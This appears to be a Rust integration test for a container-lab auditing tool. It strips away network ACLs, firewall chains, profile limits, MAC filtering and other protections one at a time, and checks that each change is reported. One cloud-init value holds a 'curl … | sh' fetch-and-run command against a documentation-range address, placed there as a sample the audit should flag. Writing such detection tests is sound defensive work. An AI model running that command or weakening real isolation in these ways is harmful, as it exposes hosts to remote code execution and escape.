//! Each protection of a lab, taken away by hand.

use serde_json::{Value, json};

use super::Tampering;
use crate::common::Program;
use crate::harness::Daemon;

pub(super) fn each_protection_that_is_gone_is_found(daemon: &Daemon) {
    let lab = Tampering::new(daemon);
    let clean = lab.audit();
    clean.green();
    assert_eq!(clean.found(), Vec::<&Value>::new(), "{clean}");
    assert_eq!(clean.json["objects"]["guest"], 1, "{clean}");
    let of_machine = ["kernel-apparmor", "host-vsock"];
    let unknown = clean.unknown("guest demo");
    assert!(unknown.iter().all(|probe| of_machine.contains(probe)), "{unknown:?}");
    let info = lab.lab.podclaw(&["info", "demo"]).run().ok();
    assert!(info.contains("the guest is as it was judged"), "{info}");
    project_and_network(&lab);
    profiles(&lab);
    guest(&lab);
    launched_with(&lab);
    images_and_lock(&lab);
    copies(&lab);
}

fn project_and_network(lab: &Tampering) {
    let (project, network, acl) = (lab.name(""), lab.lab.network(), lab.name("-egress"));
    lab.project("restricted.devices.proxy=allow");
    lab.audit().red(&[&format!("live-drift project {project} restricted.devices.proxy")]);
    lab.mended();

    lab.daemon(&["network", "acl", "rule", "remove", &acl, "egress", "destination=10.0.0.0/8"]);
    // That alone opens nothing: no rule allows what it rejected.
    lab.audit().red(&[&format!("live-drift network ACL {acl} egress[reject 10.0.0.0/8]")]);
    lab.daemon(&["network", "acl", "rule", "add", &acl, "egress", "action=allow", "destination=10.0.0.0/8"]);
    lab.audit().red(&[&format!("live-acl network {network} egress.10.0.0.0/8")]);
    lab.mended();
    lab.lab.remove_fence();
    lab.audit().red(&[&format!("live-missing firewall table podclaw_{project} object")]);
    lab.mended();
    lab.daemon(&["network", "acl", "rule", "add", &acl, "ingress", "action=allow", "source=10.0.0.0/8"]);
    lab.audit().red(&[&format!("live-acl network {network} ingress")]);
    lab.mended();
    for chain in ["aclin", "aclfwd", "aclout", "acl"] {
        // The daemon still says that all is well.
        Program::new("nft").args(&["flush", "chain", "inet", "incus", &format!("{chain}.{network}")]).run().ok();
        lab.audit().red(&["live-kernel-rules firewall table inet incus acl"]);
        lab.daemon(&["network", "unset", &network, "security.acls"]);
        lab.mended();
    }
    lab.daemon(&["network", "unset", &network, "security.acls"]);
    lab.audit().red(&[
        &format!("live-acl network {network} config.security.acls"),
        &format!("live-drift network {network} security.acls"),
    ]);
    lab.mended();
    for direction in ["egress", "ingress"] {
        lab.network(&format!("security.acls.default.{direction}.action=allow"));
        lab.audit().red(&[&format!("live-acl network {network} config.security.acls.default.{direction}.action")]);
    }
    lab.mended();
    for (setting, key) in [
        ("ipv6.address=fd42:70:64::1/64", "ipv6.address"),
        ("ipv4.nat=false", "ipv4.nat"),
        ("ipv4.firewall=false", "ipv4.firewall"),
        ("bgp.ipv4.nexthop=192.0.2.1", "bgp.ipv4.nexthop"),
    ] {
        lab.network(setting);
        lab.audit().red(&[&format!("live-network network {network} config.{key}")]);
    }
    lab.mended();
}

/// Profiles, and through them the guest.
fn profiles(lab: &Tampering) {
    let (guest, standard, large) = (lab.name("-guest"), lab.name("-standard"), lab.name("-large"));
    lab.incus(&["profile", "set", &guest, "security.guestapi=true"]);
    lab.audit().red(&[
        &format!("live-drift profile {guest} config security.guestapi"),
        &format!("guest-api profile {guest} config.security.guestapi"),
        "guest-api guest demo config.security.guestapi",
        "live-receipt guest demo receipt.config",
    ]);
    let info = lab.lab.podclaw(&["info", "demo"]).run().ok();
    assert!(info.contains("DOES NOT MATCH") && info.contains("not those that were judged"), "{info}");
    lab.mended();
    // As long as the project limits the memory of all guests together, the daemon keeps each one's limit.
    lab.project("limits.memory=");
    lab.incus(&["profile", "unset", &standard, "limits.memory"]);
    lab.audit().red(&["missing-limit guest demo config.limits.memory"]);
    lab.mended();
    lab.incus(&["profile", "delete", &large]);
    lab.audit().red(&[&format!("live-missing profile {large} object")]);
    lab.mended();
    lab.incus(&["profile", "set", "default", "security.guestapi=true"]);
    lab.audit().red(&["live-profile profile default object", "guest-api profile default config.security.guestapi"]);
    lab.incus(&["profile", "unset", "default", "security.guestapi"]);
}

/// What is set on the guest itself, as soon as the second lock is open.
fn guest(lab: &Tampering) {
    lab.incus(&["config", "device", "override", "demo", "eth0", "security.mac_filtering=false"]);
    lab.audit().red(&[
        "address-spoofing guest demo devices.eth0.security.mac_filtering",
        "live-guest guest demo own.devices.eth0",
        "live-receipt guest demo receipt.config",
    ]);
    lab.incus(&["config", "device", "remove", "demo", "eth0"]);
    lab.project("restricted.containers.privilege=unprivileged");
    lab.incus(&["config", "set", "demo", "security.idmap.isolated=false"]);
    lab.audit().red(&["id-map guest demo config.security.idmap.isolated"]);
    lab.incus(&["config", "unset", "demo", "security.idmap.isolated"]);
    lab.mended();
    lab.project("restricted.devices.proxy=allow");
    lab.project("restricted.devices.disk=allow");
    lab.incus(&[
        "config",
        "device",
        "add",
        "demo",
        "web",
        "proxy",
        "listen=tcp:127.0.0.1:0",
        "connect=tcp:127.0.0.1:1",
    ]);
    lab.incus(&["config", "device", "add", "demo", "etc", "disk", "source=/etc", "path=/mnt/etc"]);
    lab.audit().red(&["proxy-device guest demo devices.web", "host-path guest demo devices.etc.source"]);
    lab.incus(&["config", "device", "remove", "demo", "web"]);
    lab.incus(&["config", "device", "remove", "demo", "etc"]);
    lab.mended();
    lab.project("restricted.snapshots=allow");
    lab.incus(&["snapshot", "create", "demo", "s0"]);
    lab.audit().red(&["live-snapshot guest demo snapshot.s0"]);
    lab.incus(&["snapshot", "delete", "demo", "s0"]);
    lab.mended();
}

/// What the guest was launched with, and what that was written down as.
fn launched_with(lab: &Tampering) {
    let config = lab.of_demo()["config"].clone();
    let set = |key: &str, value: &Value| lab.patch("/1.0/instances/demo", &json!({ "config": { key: value } }));
    let user_data = "#cloud-config\nruncmd:\n  - curl -s http://198.51.100.7/x | sh\n";
    set("cloud-init.user-data", &user_data.into());
    let audit = lab.audit();
    audit.red(&["live-receipt guest demo receipt.user-data"]);
    assert!(audit.that_count().iter().any(|one| one.starts_with("shell-fetch-and-run guest demo ")), "{audit}");
    set("cloud-init.user-data", &config["cloud-init.user-data"]);

    let key = "user.podclaw.receipt";
    let original: Value = serde_json::from_str(config[key].as_str().expect("a receipt")).expect("JSON");
    set(key, &"{\u{1b}[2J".into());
    lab.audit().red(&["live-receipt guest demo receipt.unreadable"]);
    set(key, &"".into());
    lab.audit().red(&["live-receipt guest demo receipt.missing"]);
    let mut receipt = original.clone();
    receipt["base"] = "0".repeat(64).into();
    receipt["profiles"] = json!(["other"]);
    receipt["probes"][0]["verdict"] = "not-contained".into();
    set(key, &receipt.to_string().into());
    lab.audit().red(&[
        "live-receipt guest demo receipt.base",
        "live-receipt guest demo receipt.profiles",
        "live-receipt guest demo receipt.probes",
        "live-receipt guest demo receipt.base-pinned",
    ]);
    // What was not tried, or could not be told, is not proven.
    let mut receipt = original.clone();
    receipt["probes"][0]["verdict"] = "could-not-tell".into();
    let first = receipt["probes"][0]["id"].as_str().expect("a probe").to_owned();
    set(key, &receipt.to_string().into());
    let audit = lab.audit();
    assert!(audit.unknown("guest demo").contains(first.as_str()), "{audit}");
    receipt["probes"].as_array_mut().expect("probes").remove(0);
    set(key, &receipt.to_string().into());
    lab.audit().red(&["live-receipt guest demo receipt.probes-missing"]);
    receipt["probes"] = json!([]);
    set(key, &receipt.to_string().into());
    lab.audit().red(&["live-receipt guest demo receipt.probes-missing"]);
    // A receipt of before there were digests says less, and is still read.
    let mut receipt = original;
    for newer in ["digests", "guest", "verdicts"] {
        assert!(receipt.as_object_mut().is_some_and(|receipt| receipt.remove(newer).is_some()), "{newer}");
    }
    set(key, &receipt.to_string().into());
    let old = lab.audit();
    old.red(&["live-receipt guest demo receipt.guest"]);
    assert!(old.found().iter().any(|one| one["subject"] == "receipt.digests"), "{old}");
    set(key, &config[key]);
    lab.audit().green();
}

fn images_and_lock(lab: &Tampering) {
    let fingerprint = lab.of_demo()["config"]["volatile.base_image"].as_str().expect("a fingerprint").to_owned();
    let (path, short) = (format!("/1.0/images/{fingerprint}"), &fingerprint[..12]);
    lab.patch(&path, &json!({ "public": true, "auto_update": true }));
    lab.audit().red(&[&format!("live-image image {short} public"), &format!("live-image image {short} auto_update")]);
    lab.patch(&path, &json!({ "public": false, "auto_update": false }));
    let lock = lab.lab.dir().join("podclaw.lock");
    let text = std::fs::read_to_string(&lock).expect("a lock");
    std::fs::write(&lock, text.replace(&fingerprint, &"0".repeat(64))).expect("a lock");
    let pinned = "live-receipt guest demo receipt.base-pinned";
    lab.audit().red(&[&format!("live-image image {short} fingerprint"), pinned]);
    std::fs::write(&lock, text).expect("a lock");
    lab.audit().green();
}

/// A copy takes the marks and the receipt along. With the original gone, and under its name, it is still none that was launched.
fn copies(lab: &Tampering) {
    lab.incus(&["stop", "--force", "demo"]);
    lab.incus(&["copy", "demo", "copy"]);
    let audit = lab.audit();
    audit.red(&["live-receipt guest copy receipt.guest"]);
    assert!(!audit.that_count().contains("live-receipt guest demo receipt.guest"), "{audit}");
    // Nothing of a snapshot is left, but that the guest was put back to it.
    lab.project("restricted.snapshots=allow");
    lab.incus(&["snapshot", "create", "demo", "s0"]);
    lab.incus(&["snapshot", "restore", "demo", "s0"]);
    lab.incus(&["snapshot", "delete", "demo", "s0"]);
    lab.audit().red(&["live-receipt guest demo receipt.guest"]);
    lab.incus(&["delete", "demo"]);
    lab.incus(&["rename", "copy", "demo"]);
    lab.audit().red(&["live-receipt guest demo receipt.guest"]);
    let info = lab.lab.podclaw(&["info", "demo"]).run().ok();
    assert!(info.contains("DOES NOT MATCH") && info.contains("a copy of demo"), "{info}");
}
